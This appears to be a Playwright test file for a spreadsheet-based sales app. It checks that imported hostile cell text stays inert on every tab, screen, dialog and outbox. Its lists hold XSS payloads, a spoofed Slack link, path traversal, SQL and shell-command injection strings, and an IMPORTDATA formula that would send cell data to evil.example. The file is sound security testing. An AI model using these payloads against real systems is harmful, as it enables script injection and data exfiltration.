// Text that wants to be markup or a formula, in every field: it is shown as text wherever it turns up, and does nothing.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame } from 'playwright-core';
import { writeCsv } from '../../src/engine/csv';
import { isPlaceholder } from '../../src/engine/shared-hosts';
import { overlapsTab } from '../../src/features/overlaps/tables';
import { HOSTILE_TEXTS } from '../fakes/hostile-cells';
import { threatVectors } from '../fakes/threat-vectors';
import { formulasIn, rowsOf } from './harness/book';
import { openDesk, until, type Desk } from './harness/desk';
import { nexus } from './harness/serve';

/** Each would leave an element or an attribute with the mark, or run. */
const MARKUP: readonly string[] = [
  '<x-pwned>element</x-pwned>',
  '<img src=x onerror="window.pwned=1" data-pwned>',
  '"><svg onload="window.pwned=1" data-pwned>',
  "' onmouseover='window.pwned=1' data-pwned='",
  '" autofocus onfocus="window.pwned=1" data-pwned="',
  '<script data-pwned>window.pwned=1</script>',
  '</script><script data-pwned>window.pwned=1</script>',
  '</title></style></textarea><x-pwned>',
  '<iframe srcdoc="<script>parent.pwned=1</script>" data-pwned></iframe>',
  '<a href="javascript:window.pwned=1" data-pwned>link</a>',
  '<style data-pwned>*{display:none}</style>',
  '<!--<x-pwned>-->',
  '&lt;x-pwned&gt;&#60;x-pwned&#62;',
  '<math><mi data-pwned xlink:href="javascript:window.pwned=1">',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '<!channel> <@U1> <https://evil.example|https://app.example>',
];

const NAUGHTY: readonly string[] = [
  'undefined',
  'null',
  'NaN',
  '../../../etc/passwd',
  'ثم نفس سقطت',
  '田中さんにあげて下さい',
  '👩🏽‍🚀🏳️‍⚧️',
  'ﷺ',
  'Ṱ̺̺̕o͞ ̷i̲̬',
  '‮test‮',
  'ﬃ ſ İ ı',
  '1;DROP TABLE users',
  '$(touch /tmp/x)',
  '__proto__',
  'constructor',
  'hasOwnProperty',
];

const MARKS =
  'x-pwned, [data-pwned], [onerror], [onload], [onfocus], [onmouseover], iframe[srcdoc*=pwned], [href^="javascript:"]';

const vectors = threatVectors();
const outside =
  vectors === null
    ? []
    : [
        ...vectors.slack.inputs,
        ...((vectors as unknown as { readonly formula?: { readonly inputs: readonly string[] } }).formula?.inputs ??
          []),
      ];
const TEXTS = [...new Set([...MARKUP, ...NAUGHTY, ...HOSTILE_TEXTS, ...outside])].filter(
  (text) => text.trim() !== '' && text.length < 2_000,
);

const TEXT_COLUMNS = overlapsTab.columns
  .filter(
    ({ id, type, owner }) =>
      type === 'text' &&
      owner === 'nexus' &&
      !['key', 'reasons', 'band', 'ownerEmail', 'accountDomain', 'partnerDomain'].includes(id),
  )
  .map(({ id }) => id);

/** So many employees make each worth a message, and enough is known of each to be scored. */
function writeFiles(folder: string): void {
  const put = (name: string, header: readonly string[], rows: readonly (readonly string[])[]): void =>
    writeFileSync(join(folder, name), writeRaw(header, rows));
  put(
    'overlaps.csv',
    [
      'key',
      'ownerEmail',
      'employees',
      'engagement',
      'winnability',
      'relationshipStrength',
      'status',
      'note',
      ...TEXT_COLUMNS,
    ],
    TEXTS.map((text, i) => [
      `hostile-${i}`,
      'hugo@nexus.example',
      '1000000',
      '90',
      '90',
      '90',
      '',
      text,
      ...TEXT_COLUMNS.map(() => text),
    ]),
  );
  put(
    'team.csv',
    ['name', 'email', 'role', 'manager', 'territories', 'hours'],
    TEXTS.map((text, i) => [
      text,
      `hostile${i}@nexus.example`,
      i % 7 === 0 ? text : 'AE',
      i % 5 === 0 ? text : '',
      text,
      i % 9 === 0 ? text : '',
    ]),
  );
  put(
    'weights.csv',
    ['model', 'criterion', 'field', 'scale', 'weight', 'help'],
    MARKUP.map((text) => ['opportunity', text, 'industry', 'map *=1', '0.01', text]),
  );
  put(
    'routes.csv',
    ['assignTo', 'country', 'help'],
    MARKUP.map((text) => [text, text, text]),
  );
  put(
    'bands.csv',
    ['name', 'min', 'colour', 'guidance'],
    [['<x-pwned>band', '90', '#ffe8b3', '<img src=x onerror="window.pwned=1" data-pwned>']],
  );
}

/** As it is: what is written for people to open in Excel gets an apostrophe before an equals sign. */
const writeRaw = (header: readonly string[], rows: readonly (readonly string[])[]): string =>
  writeCsv(header, []) +
  rows.map((cells) => `${cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')}\n`).join('');

let desk: Desk;

/** The clock goes on and every job runs: scores, bands, plans, messages. */
async function tick(): Promise<void> {
  const runs = rowsOf(desk.workbook, 'Runs').length;
  await desk.page.getByTestId('clock-minutes').click();
  await until(
    () => rowsOf(desk.workbook, 'Runs').length,
    (count) => count > runs + 1,
    'runs of the tick',
    60_000,
  );
}

const hostileMessages = () =>
  rowsOf(desk.workbook, 'Messages').filter(({ record }) => String(record).startsWith('hostile-'));

beforeAll(async () => {
  const folder = mkdtempSync(join(tmpdir(), 'nexus-hostile-'));
  writeFiles(folder);
  desk = await openDesk({
    prepare: (workbook) => {
      nexus(workbook, 'edit', 'Settings', 'nudge.dailyCap', 'value', '500');
      for (const tab of ['Bands', 'Weights', 'Team', 'Routes', 'Overlaps'])
        nexus(workbook, 'import', tab, join(folder, `${tab.toLowerCase()}.csv`));
    },
  });
  rmSync(folder, { recursive: true, force: true });
  await tick();
  await until(
    () => hostileMessages().length,
    (count) => count > 5,
    'messages planned',
    60_000,
  );
  await desk.reload();
}, 120_000);
afterAll(() => desk.close());

/** What of the payloads became more than text, in any frame. */
async function marks(): Promise<readonly string[]> {
  const inFrame = (frame: Frame): Promise<readonly string[]> =>
    frame.evaluate(
      (selector) => [
        ...[...document.querySelectorAll(selector)].map((element) => element.outerHTML.slice(0, 200)),
        ...('pwned' in window ? ['a script ran'] : []),
      ],
      MARKS,
    );
  return (await Promise.all(desk.page.frames().map(inFrame))).flat();
}

const accountsShown = (): Promise<readonly unknown[]> =>
  desk.ask((handle) => Array.from({ length: handle.rowCount() }, (_, row) => handle.valueAt(row, 1)));

const shownText = (): Promise<string> => desk.sidebar.locator('body').innerText();

/** As a browser lays it out, and without what is made visible or taken out on purpose: control and direction signs. */
const plain = (text: string): string => text.normalize('NFC').replace(/[\p{Cc}\p{Cf}\s\u2028\u2029�]+/gu, '');

test('the payloads are in the workbook as they came, and none is a formula', async () => {
  const rows = rowsOf(desk.workbook, 'Overlaps').filter(({ key }) => String(key).startsWith('hostile-'));
  // What says no more than "n/a" names no account: it is refused at its line.
  const namesNothing = TEXTS.filter((text) => isPlaceholder(text));
  expect(rows.map(({ key }) => key)).toEqual(
    TEXTS.flatMap((text, i) => (namesNothing.includes(text) ? [] : [`hostile-${i}`])),
  );
  expect(namesNothing).toEqual(expect.arrayContaining(['undefined', 'null', 'NaN']));
  expect(namesNothing.length).toBeLessThan(10);
  expect(MARKUP.filter((text) => !rows.some(({ account }) => account === text))).toEqual([]);
  for (const tab of ['Overlaps', 'Team', 'Weights', 'Routes', 'Bands'])
    expect([tab, formulasIn(desk.workbook, tab)]).toEqual([tab, []]);
  expect(await marks()).toEqual([]);
});

test('every tab of the grid shows them as text', async () => {
  const titles = await desk.ask((handle) =>
    handle
      .book()
      .tabs.filter(({ isHidden }) => !isHidden)
      .map(({ title }) => title),
  );
  expect(titles).toContain('<x-pwned>band');
  for (const title of titles) {
    await desk.openTab(title);
    await desk.page.waitForTimeout(150);
    expect([title, await marks()]).toEqual([title, []]);
  }
  await desk.openTab('Overlaps');
  await until(
    accountsShown,
    (shown) =>
      ['<img src=x onerror="window.pwned=1" data-pwned>', '=IMPORTDATA("https://evil.example/?"&A1)'].every((text) =>
        shown.includes(text),
      ),
    'accounts as they came',
  );
});

test.each(['Record', 'Weights', 'Queue', 'Health', 'Team'] as const)(
  'the screen %s shows them as text',
  async (screen) => {
    if (screen === 'Record') {
      await desk.openTab('Overlaps');
      const row = (await until(accountsShown, (shown) => shown.includes(MARKUP[1] ?? ''), 'the account')).indexOf(
        MARKUP[1] ?? '',
      );
      await desk.select(`B${row + 1}`);
    }
    await desk.screen(screen);
    // Many problems of one tab are folded away.
    const unfolded = async (): Promise<string> => {
      for (const summary of await desk.sidebar.locator('details:not([open]) > summary').all())
        if (await summary.isVisible()) await summary.click();
      return shownText();
    };
    await until(unfolded, (text) => /pwned/.test(text), `payloads on ${screen}`);
    expect(await marks()).toEqual([]);
    if (screen !== 'Team') return;
    const text = plain(await shownText());
    const names = rowsOf(desk.workbook, 'Team')
      .map(({ name }) => String(name ?? ''))
      .filter((name) => plain(name) !== '' && name.length < 60);
    expect(names.filter((name) => !text.includes(plain(name)))).toEqual([]);
  },
);

test('messages show them as text, in the outboxes too', async () => {
  nexus(desk.workbook, 'edit', 'Settings', 'nudge.mode', 'value', 'live');
  await tick();
  await until(
    () => hostileMessages().filter(({ state }) => state === 'sent').length,
    (count) => count > 5,
    'sent',
    60_000,
  );
  for (const panel of ['slack', 'mail', 'runs'] as const) {
    await desk.page.getByTestId(`open-${panel}`).click();
    await desk.page.getByTestId(`panel-${panel}`).locator('article, details, tr').first().waitFor();
    for (const mail of panel === 'mail' ? (await desk.page.getByTestId('mail').all()).slice(0, 10) : [])
      await mail.locator('summary').click();
    await desk.page.waitForTimeout(500);
    expect([panel, await marks()]).toEqual([panel, []]);
  }
});

test('menus and their dialogs show them as text', async () => {
  await desk.menu('About');
  await desk.page.getByTestId('answer-ok').click();
  await desk.menu('Erase a person…');
  await desk.page.getByTestId('prompt-text').fill('<x-pwned>@nexus.example');
  await desk.page.getByTestId('answer-ok').click();
  await desk.page.getByTestId('dialog').getByText('That is not one e-mail address.').waitFor();
  await desk.page.getByTestId('answer-ok').click();
  await desk.menu('Erase a person…');
  await desk.page.getByTestId('prompt-text').fill('hostile1@nexus.example');
  await desk.page.getByTestId('answer-ok').click();
  await desk.page
    .getByTestId('dialog')
    .getByText(/To erase:/)
    .waitFor();
  expect(await marks()).toEqual([]);
  await desk.page.getByTestId('answer-no').click();
  expect(desk.complaints()).toEqual([]);
});
